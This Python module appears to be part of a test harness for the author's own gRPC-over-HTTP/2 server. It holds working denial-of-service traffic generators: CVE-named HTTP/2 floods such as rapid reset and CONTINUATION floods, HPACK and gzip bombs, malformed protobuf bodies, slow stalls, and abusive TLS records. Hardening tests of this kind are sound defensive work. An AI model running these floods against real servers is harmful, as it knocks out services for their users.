"""What a peer can do to a server: one generator for each attack, which yields what is sent piece by
piece, a frame or a record each. It has an encoder and a server to make tokens for, and no connection.

An attack says over what it goes (`over`): "h2" is a connection with its preface sent, "tls" one after
the handshake, "tcp" a bare socket. `reads` False: the peer takes nothing of what it is sent.
`answered`: the connection is not cut for it; each piece is refused by itself, and must be cheap.
"""

import dataclasses
import os
import struct
import typing
import zlib

from h2_by_hand import PREFACE, get_user, message, raw_frame
from hyperframe import frame as frames

ATTACKS = []
CANCEL = 8
WINDOW_MAX = 2**31 - 1


@dataclasses.dataclass
class Attack:
    name: str
    pieces: typing.Callable
    over: str = "h2"
    reads: bool = True
    answered: bool = False
    acknowledges: bool = True  # the server's SETTINGS, before it begins
    pieces_max: int = 20000


def attack(name, **options):
    def add(pieces):
        ATTACKS.append(Attack(name, pieces, **options))
        return pieces
    return add


def heads(peer, **head):
    """Fresh streams: (id, HEADERS frame)."""
    fields = peer.head(**head)
    for stream in range(1, 2**31, 2):
        yield stream, peer.headers(stream, fields).serialize()


def frame(one):
    return one.serialize()


# ---- floods of frames (CVE-2023-44487 and its relatives)

@attack("rapid reset (CVE-2023-44487)")
def rapid_reset(peer):
    for stream, head in heads(peer):
        yield head
        yield frame(frames.RstStreamFrame(stream, error_code=CANCEL))


@attack("rapid reset, answers not read", reads=False)
def rapid_reset_unread(peer):
    yield from rapid_reset(peer)


@attack("made to reset: window overflow (CVE-2025-8671)")
def made_to_reset_window(peer):
    for stream, head in heads(peer):
        yield head
        yield frame(frames.WindowUpdateFrame(stream, window_increment=WINDOW_MAX))


@attack("made to reset: content-length that lies")
def made_to_reset_length(peer):
    for stream, head in heads(peer, content_length="3"):
        yield head
        yield frame(peer.data(stream, b"four", True))


@attack("made to reset: increment of zero")
def made_to_reset_zero(peer):
    for stream, head in heads(peer):
        yield head
        yield raw_frame(8, 0, stream, bytes(4))


@attack("made to reset: DATA after the end")
def made_to_reset_ended(peer):
    for stream, head in heads(peer):
        yield head
        yield frame(peer.data(stream, get_user("x"), True))
        yield frame(peer.data(stream, b"more"))


@attack("made to reset: a stream that depends on itself")
def made_to_reset_priority(peer):
    for stream, head in heads(peer):
        yield head
        yield raw_frame(2, 0, stream, struct.pack(">IB", stream, 1))


@attack("resets of streams never opened")
def idle_resets(peer):
    del peer
    while True:
        yield frame(frames.RstStreamFrame(100001, error_code=CANCEL))


@attack("PING flood (CVE-2019-9512)")
def pings(peer):
    del peer
    while True:
        yield frame(frames.PingFrame(0, opaque_data=b"flooding"))


@attack("PING flood, answers not read", reads=False)
def pings_unread(peer):
    yield from pings(peer)


@attack("SETTINGS flood (CVE-2019-9515)")
def settings(peer):
    del peer
    while True:
        yield frame(frames.SettingsFrame(0, settings={4: 65535}))


@attack("SETTINGS of 2,000 entries")
def long_settings(peer):
    del peer
    while True:
        yield raw_frame(4, 0, 0, struct.pack(">HI", 3, 100) * 2000)


@attack("PRIORITY flood (CVE-2019-9513)")
def priorities(peer):
    del peer
    while True:
        yield frame(frames.PriorityFrame(1, depends_on=0, stream_weight=1))


@attack("WINDOW_UPDATE flood")
def window_updates(peer):
    yield frame(peer.headers(1, peer.head()))
    while True:
        yield frame(frames.WindowUpdateFrame(1, window_increment=1))


@attack("empty DATA flood (CVE-2019-9518)")
def empty_data(peer):
    yield frame(peer.headers(1, peer.head()))
    while True:
        yield frame(peer.data(1, b""))


@attack("DATA that is all padding")
def padding(peer):
    yield frame(peer.headers(1, peer.head()))
    while True:
        yield frame(peer.data(1, b"", padding=200))


@attack("unknown frames")
def unknown(peer):
    del peer
    while True:
        yield raw_frame(0xFA, 0, 0, b"grease")


@attack("trailers without end")
def trailers(peer):
    yield frame(peer.headers(1, peer.head()))
    while True:
        yield frame(peer.headers(1, [("x", "y")]))


# ---- heads

@attack("CONTINUATION flood (CVE-2024-27316)")
def continuations(peer):
    yield frame(frames.HeadersFrame(1, data=peer.encoder.encode(peer.head()), flags=[]))
    while True:
        yield frame(frames.ContinuationFrame(1, data=peer.encoder.encode([("x", "y")]), flags=[]))


@attack("HPACK bomb")
def hpack_bomb(peer):
    for stream in range(1, 2**31, 2):
        yield frame(peer.headers(stream, peer.head() + [("x-bomb", "v" * 3900)] * 100))


@attack("300 fields in a head")
def many_fields(peer):
    for stream in range(1, 2**31, 2):
        yield frame(peer.headers(stream, peer.head() + [("x", "y")] * 300))


@attack("empty field names (CVE-2019-9516)")
def empty_names(peer):
    for stream in range(1, 2**31, 2):
        yield frame(peer.headers(stream, peer.head() + [("", "")] * 20))


@attack("heads of 20 KiB")
def large_heads(peer):
    fields = peer.head() + [(f"x-{i}", "v" * 3900) for i in range(5)]
    block = peer.encoder.encode(fields)
    again = peer.encoder.encode(fields)  # what lies in the table is the same from now on
    for stream in range(1, 2**31, 2):
        if stream > 1:
            block = again
        yield frame(frames.HeadersFrame(stream, data=block[:16000], flags=[]))
        yield frame(frames.ContinuationFrame(stream, data=block[16000:], flags=["END_HEADERS"]))


@attack("broken compression of heads")
def broken_hpack(peer):
    del peer
    for stream in range(1, 2**31, 2):
        yield frame(frames.HeadersFrame(stream, data=b"\xff" * 30, flags=["END_HEADERS"]))


@attack("heads without a path")
def malformed_heads(peer):
    fields = peer.head(drop=(":path",))
    for stream in range(1, 2**31, 2):
        yield frame(peer.headers(stream, fields, True))


@attack("calls with GET")
def other_methods(peer):
    for _, head in heads(peer, **{":method": "GET"}):
        yield head


@attack("calls of another content type")
def other_types(peer):
    for _, head in heads(peer, content_type="application/json"):
        yield head


@attack("bad tokens")
def bad_tokens(peer):
    for _, head in heads(peer, authorization="Bearer " + peer.server.token()[:-8] + "AAAAAAAA"):
        yield head


@attack("tokens of 8 KiB")
def long_tokens(peer):
    for _, head in heads(peer, authorization="Bearer " + "e30." * 2000):
        yield head


@attack("unknown methods", answered=True, pieces_max=200)
def unknown_methods(peer):
    for stream, head in heads(peer, path="/users.v1.UserService/" + "x" * 4000):
        yield head + frame(peer.data(stream, b"", True))


# ---- messages

@attack("messages said to be of 4 GiB", answered=True, pieces_max=200)
def huge_messages(peer):
    for stream, head in heads(peer):
        yield head + frame(peer.data(stream, b"\x00\xff\xff\xff\xff"))


@attack("half messages of 60 KiB on every stream")
def half_messages(peer):
    part = struct.pack(">BI", 0, 61440) + bytes(8000)
    for stream, head in heads(peer):
        yield head
        yield frame(peer.data(stream, part))


@attack("a byte of a message on every stream")
def first_bytes(peer):
    part = struct.pack(">BI", 0, 61440) + b"x"
    for stream, head in heads(peer):
        yield head
        yield frame(peer.data(stream, part))


@attack("half messages that outgrow their room")
def growing_messages(peer):
    part = struct.pack(">BI", 0, 61440) + bytes(8000)
    for stream, head in heads(peer):
        yield head
        yield frame(peer.data(stream, part))
        yield frame(peer.data(stream, bytes(100)))


@attack("half messages on streams of requests")
def half_sync_messages(peer):
    part = struct.pack(">BI", 0, 61440) + bytes(8000)
    for stream, head in heads(peer, path="/users.v1.UserService/SyncUsers"):
        yield head
        yield frame(peer.data(stream, part))


@attack("gzip bomb", answered=True, pieces_max=50)
def gzip_bomb(peer):
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = message(packer.compress(bytes(10_000_000)) + packer.flush(), 1)
    for stream, head in heads(peer, grpc_encoding="gzip"):
        yield head + frame(peer.data(stream, bomb, True))


@attack("20,000 empty roles in a message", answered=True, pieces_max=50)
def many_roles(peer):
    body = message(b"\x12\x00" * 7000)
    for stream, head in heads(peer, path="/users.v1.UserService/UpdateUser"):
        yield head + frame(peer.data(stream, body, True))


@attack("7,000 unknown fields in a message", answered=True, pieces_max=50)
def unknown_fields(peer):
    body = message(b"\xf8\x07\x01" * 5000)
    for stream, head in heads(peer):
        yield head + frame(peer.data(stream, body, True))


@attack("garbage for a message", answered=True, pieces_max=200)
def garbage_messages(peer):
    for stream, head in heads(peer):
        yield head + frame(peer.data(stream, message(os.urandom(200)), True))


@attack("nested filters", answered=True, pieces_max=50)
def nested_filters(peer):
    text = b"(" * 400 + b"a" + b")" * 400
    body = message(b"\x1a" + bytes([len(text) & 0x7F | 0x80, len(text) >> 7]) + text)
    for stream, head in heads(peer, path="/users.v1.UserService/ListUsers"):
        yield head + frame(peer.data(stream, body, True))


@attack("watchers without end", answered=True, pieces_max=300)
def watchers(peer):
    body = message(b"\x0a\x04none")
    for stream, head in heads(peer, path="/users.v1.UserService/WatchUser"):
        yield head + frame(peer.data(stream, body, True))


# ---- standing still

@attack("a preface that does not come", over="tls")
def no_preface(line):
    del line
    yield b""


@attack("a preface byte by byte", over="tls")
def slow_preface(line):
    del line
    for byte in PREFACE[:-1]:
        yield bytes([byte])


@attack("SETTINGS never acknowledged", acknowledges=False)
def no_acknowledgement(peer):
    del peer
    yield b""


@attack("a head that never ends")
def slow_head(peer):
    yield frame(frames.HeadersFrame(1, data=peer.encoder.encode(peer.head()), flags=[]))


@attack("bodies that never end", answered=True, pieces_max=100)
def slow_bodies(peer):
    for stream, head in heads(peer):
        yield head + frame(peer.data(stream, get_user("nobody")[:6]))


@attack("a window of zero (CVE-2019-9517)", reads=False, answered=True, pieces_max=100)
def no_window(peer):
    yield frame(frames.SettingsFrame(0, settings={4: 0}))
    for stream, head in heads(peer):
        yield head + frame(peer.data(stream, get_user("nobody"), True))


# ---- TLS

def record(kind, body, size=None):
    return bytes([kind, 3, 3]) + struct.pack(">H", len(body) if size is None else size) + body


def client_hello(size):
    """The head of one, said to be so long."""
    return b"\x01" + size.to_bytes(3, "big") + b"\x03\x03" + os.urandom(32)


@attack("garbage instead of TLS", over="tcp")
def tls_garbage(line):
    del line
    while True:
        yield os.urandom(512)


@attack("HTTP/1.1 instead of TLS", over="tcp")
def plain_http(line):
    del line
    while True:
        yield b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"


@attack("a ClientHello of 16 MiB", over="tcp")
def huge_hello(line):
    del line
    yield record(22, client_hello(2**24 - 1) + bytes(16000))
    while True:
        yield record(22, bytes(16384))


@attack("a ClientHello in records of one byte", over="tcp")
def chopped_hello(line):
    del line
    for byte in client_hello(500) + bytes(500):
        yield record(22, bytes([byte]))


@attack("a record cut off", over="tcp")
def cut_record(line):
    del line
    yield record(22, client_hello(500), size=600)


@attack("records of nothing but a tag (CVE-2024-0901)", over="tcp")
def short_records(line):
    del line
    while True:
        yield record(23, bytes(16))


@attack("alerts instead of a handshake", over="tcp")
def alerts(line):
    del line
    while True:
        yield record(21, b"\x01\x5a")


@attack("cipher changes without end", over="tcp")
def cipher_changes(line):
    del line
    while True:
        yield record(20, b"\x01")


@attack("records of an unknown type", over="tcp")
def unknown_records(line):
    del line
    while True:
        yield record(99, bytes(100))


@attack("records over the limit in length", over="tcp")
def long_records(line):
    del line
    while True:
        yield record(22, bytes(20000))


@attack("a handshake that does not begin", over="tcp")
def no_handshake(line):
    del line
    yield b""


@attack("a key update per record", over="s_client")
def key_updates(line):
    del line
    while True:
        yield b"k\n"


@attack("HTTP/2 without ALPN", over="no_alpn")
def no_alpn(line):
    del line
    while True:
        yield PREFACE
